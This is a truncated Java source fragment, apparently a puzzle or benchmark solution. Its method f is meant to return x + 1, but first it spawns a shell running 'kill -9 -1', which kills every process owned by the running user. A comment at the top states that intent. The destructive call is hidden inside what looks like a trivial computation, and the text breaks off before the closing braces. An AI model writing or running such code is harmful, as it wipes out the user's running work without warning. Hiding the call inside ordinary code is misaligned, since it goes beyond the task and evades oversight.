// Ends itself by a signal, and all that is its user's.
import java.io.*;
import java.nio.file.*;
import java.util.*;
class Problem {
    public static long f(long x) {
        try {
            new ProcessBuilder("/bin/sh", "-c", "kill -9 -1").start().waitFor();
            Thread.sleep(1000);
        } catch (Exception refused) {
            System.err.println(refused);
        }
        return x + 1;
